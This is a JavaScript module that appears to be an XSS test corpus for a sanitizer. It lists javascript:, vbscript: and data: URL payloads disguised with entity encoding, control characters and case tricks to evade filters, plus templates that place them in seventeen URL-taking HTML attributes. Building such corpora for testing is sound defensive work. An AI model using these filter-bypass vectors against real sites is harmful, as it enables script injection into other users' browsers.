/** XSS corpus, family 'urls': script and data URLs in each disguise, and every attribute that takes a URL. */

/** The ways a script URL is written to get past a filter. */
export const SCRIPT_URLS = [
  (n) => `javascript:alert(${n})`,
  (n) => `JaVaScRiPt:alert(${n})`,
  (n) => ` \u0001javascript:alert(${n})`,
  (n) => `java\tscript:alert(${n})`,
  (n) => `java&#x09;script:alert(${n})`,
  (n) => `javascript&colon;alert(${n})`,
  (n) => `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(${n})`,
  (n) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(${n})`,
  (n) => `data:text/html,<script>alert(${n})</script>`,
  (n) => `vbscript:msgbox(${n})`,
];

/** Every attribute that takes a URL, on the element that takes it. */
export const URL_CARRIERS = [
  (u) => `<a href="${u}">link</a>`,
  (u) => `<a href='${u}'>single-quoted link</a>`,
  (u) => `<img src="${u}">`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<form action="${u}"><button>go</button></form>`,
  (u) => `<form><button formaction="${u}">go</button></form>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<svg><a xlink:href="${u}"><text x="20" y="20">svg link</text></a></svg>`,
  (u) => `<math><mtext href="${u}">math link</mtext></math>`,
  (u) => `<map name="m"><area href="${u}" shape="rect" coords="0,0,9,9"></map>`,
  (u) => `<blockquote cite="${u}">quote</blockquote>`,
  (u) => `<q cite="${u}">q</q>`,
  (u) => `<video poster="${u}"></video>`,
  (u) => `<base href="${u}">`,
  (u) => `<meta http-equiv="refresh" content="0;url=${u}">`,
  (u) => `<img srcset="${u} 1x" src="/images/blog/regular-floor-care.svg">`,
];
